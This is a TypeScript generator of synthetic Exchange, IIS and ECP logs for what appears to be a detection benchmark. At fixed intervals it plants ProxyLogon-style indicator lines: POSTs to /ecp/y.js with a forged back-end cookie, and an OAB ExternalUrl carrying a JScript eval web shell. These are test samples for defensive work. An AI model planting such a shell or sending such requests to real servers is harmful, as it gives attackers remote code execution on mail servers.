import { createWriteStream } from "node:fs";
import { once } from "node:events";

import { type Random, randomFrom } from "@/lib/core/random";

/** How often a line shows what the pack looks for. */
export type Density = "rare" | "one in sixteen";

export type LogKind = { format: "exchange_httpproxy" | "iis_w3c" | "exchange_ecp_server"; label: string; path: string };

export const logKinds: readonly LogKind[] = [
  { format: "exchange_httpproxy", label: "HttpProxy", path: "EX01/Logging/HttpProxy/Ecp/HttpProxy_2021030300-1.LOG" },
  { format: "iis_w3c", label: "IIS", path: "EX01/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log" },
  { format: "exchange_ecp_server", label: "ECP", path: "EX01/Logging/ECP/Server/ECPServer20210303-1.LOG" },
];

/** Every planted line comes from this address, which the pack lists; so the hits can be counted by other tools as well. */
export const plantedAddress = "165.232.154.116";

/** Planted text of control panel rows, which hold no address: the script tag of a poisoned URL. */
export const plantedScript = "http://f/<script";

const proxyColumns =
  "DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,Protocol,UrlHost,UrlStem,ProtocolAction,AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,ErrorCode,Method,ProxyAction,TargetServer,TargetServerVersion,RoutingType,RoutingHint,BackEndCookie,TotalRequestTime,UrlQuery,GenericInfo,GenericErrors";
const webColumns =
  "date time s-sitename s-computername s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken";

const heads: Record<LogKind["format"], string> = {
  exchange_httpproxy: `#Software: Microsoft Exchange Server\r\n#Version: 15.02.0792.003\r\n#Log-type: HttpProxy Logs\r\n#Date: 2021-03-03T00:00:00.000Z\r\n#Fields: ${proxyColumns}\r\n`,
  iis_w3c: `#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: 2021-03-03 00:00:00\r\n#Fields: ${webColumns}\r\n`,
  exchange_ecp_server:
    "#Software: Microsoft Exchange Server\r\n#Version: 15.0.0.0\r\n#Log-type: ECP Server Log\r\n#Date: 2021-03-03T00:00:00.000Z\r\n#Fields: TimeStamp,ServerName,EventId,EventData\r\n",
};

const agents = [
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:86.0) Gecko/20100101 Firefox/86.0",
  '"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36"',
  "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13628; Pro)",
  "AMProbe/Local/ClientAccess",
] as const;
const stems = [
  "/owa/",
  "/mapi/emsmdb/",
  "/EWS/Exchange.asmx",
  "/Microsoft-Server-ActiveSync/default.eas",
  "/autodiscover/autodiscover.xml",
] as const;

/** Digits at once: a log of gigabytes needs hundreds of millions of them. */
function hex(random: Random, digits: number): string {
  return Math.floor(random.next() * 16 ** digits)
    .toString(16)
    .padStart(digits, "0");
}

/** Sign-in pages look like places where web shells lie, so they are read in full; an office asks for them now and then. */
const signInShare = 0.005;

function stem(random: Random): string {
  return random.chance(signInShare) ? "/owa/auth/logon.aspx" : random.pick(stems);
}

function proxyLine(random: Random, stamp: string, planted: boolean): string {
  const user = random.whole(1, 400);
  const id = `${hex(random, 8)}-44f0-4cae-9acd-${hex(random, 8)}0bad`;
  if (planted)
    return `${stamp},${id},15,2,792,3,,Ecp,mail.contoso.example,/ecp/y.js,,FBA,false,,,ServerInfo~a]@ex01.contoso.example:444/autodiscover/autodiscover.xml?#,python-requests/2.25.1,${plantedAddress},EX01,200,200,,POST,Proxy,ex01.contoso.example,15.02.0792.003,IntraForest,X-BEResource-Cookie,Server~ex01.contoso.example/autodiscover/autodiscover.xml~1942063431,38,,BeginRequest=${stamp};CorrelationID=<empty>;,\r\n`;
  return `${stamp},${id},15,2,792,3,{${id}},Mapi,mail.contoso.example,${stem(random)},,Negotiate,true,CONTOSO\\user${user},,Sid~S-1-5-21-1004336348-1177238915-682003330-${1100 + user},${random.pick(agents)},198.51.100.${user % 250},EX01,200,200,,POST,Proxy,ex01.contoso.example,15.02.0792.003,IntraForest,WindowsIdentity,Database~${hex(random, 8)}-5a1b-4c3d-8e4f-${hex(random, 8)}~~2021-04-02T00:00:00~contoso.example~1,${random.whole(3, 400)},?MailboxId=${id}@contoso.example,BeginRequest=${stamp};CorrelationID=<empty>;ProxyState-Run=None;FEAuth=BEVersion-1942061864;BeginGetResponse=${stamp};OnResponseReady=${stamp};EndGetResponse=${stamp};ProxyState-Complete=ProxyResponseData;SharedCacheGuard=0;EndRequest=${stamp};I32:ADS.C[DC01]=2;F:ADS.AL[DC01]=1.2;I32:ATE.C[DC01.contoso.example]=1,\r\n`;
}

function webLine(random: Random, stamp: string, planted: boolean): string {
  const when = stamp.slice(0, 19).replace("T", " ");
  if (planted)
    return `${when} W3SVC1 EX01 192.0.2.11 POST /ecp/y.js - 443 - ${plantedAddress} python-requests/2.25.1 - 200 0 0 38\r\n`;
  const user = random.whole(1, 400);
  return `${when} W3SVC1 EX01 192.0.2.11 POST ${stem(random)} &CorrelationID=<empty>;&cafeReqId=${hex(random, 8)}-44f0-4cae-9acd-${hex(random, 8)}; 443 CONTOSO\\user${user} 198.51.100.${user % 250} Microsoft+Office/16.0+(Windows+NT+10.0;+Microsoft+Outlook+16.0.13628;+Pro) - 200 0 0 ${random.whole(3, 400)}\r\n`;
}

function controlLine(random: Random, stamp: string, planted: boolean): string {
  if (planted)
    return `${stamp},EX01,ECP.Request,"S:TIME=36;S:SID=${hex(random, 8)};S:CMD=Set-OabVirtualDirectory.ExternalUrl='${plantedScript} language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""bench""],""unsafe"");}</script>'.Identity='982d48c8-0000-4000-8000-000000000000';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory;S:EX=;S:ACTID=${hex(random, 8)};S:RS=0;S:BLD=15.2.792.3"\r\n`;
  return `${stamp},EX01,ECP.Request,S:TIME=${random.whole(20, 99)};S:SID=${hex(random, 8)};S:CMD=Get-MailboxStatistics.Identity='user${random.whole(1, 400)}';S:REQID=;S:URL=/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary=${hex(random, 12)};S:EX=;S:ACTID=${hex(random, 8)}-44f0-4cae-9acd-${hex(random, 8)};S:RS=0;S:BLD=15.2.792.3\r\n`;
}

const writers = { exchange_httpproxy: proxyLine, iis_w3c: webLine, exchange_ecp_server: controlLine } satisfies Record<
  LogKind["format"],
  unknown
>;

const rareEvery = 20_000;
const denseEvery = 16;
const linesPerBlock = 2_000;
const startAt = Date.UTC(2021, 2, 3);

export type WrittenLog = { sizeBytes: number; lines: number; planted: number };

/** Writes a log of about `sizeBytes` from a fixed seed: the same on every machine and at every run. */
export async function writeLog(
  path: string,
  log: { kind: LogKind; density: Density; sizeBytes: number },
): Promise<WrittenLog> {
  const random = randomFrom(417);
  const every = log.density === "rare" ? rareEvery : denseEvery;
  const line = writers[log.kind.format];
  const file = createWriteStream(path);
  const written: WrittenLog = { sizeBytes: 0, lines: 0, planted: 0 };
  for (let block = heads[log.kind.format]; written.sizeBytes < log.sizeBytes; block = "") {
    for (let row = 0; row < linesPerBlock; row += 1) {
      const planted = written.lines % every === every - 1;
      block += line(random, new Date(startAt + written.lines * 20).toISOString(), planted);
      written.lines += 1;
      if (planted) written.planted += 1;
    }
    written.sizeBytes += Buffer.byteLength(block);
    if (!file.write(block)) await once(file, "drain");
  }
  file.end();
  await once(file, "close");
  return written;
}
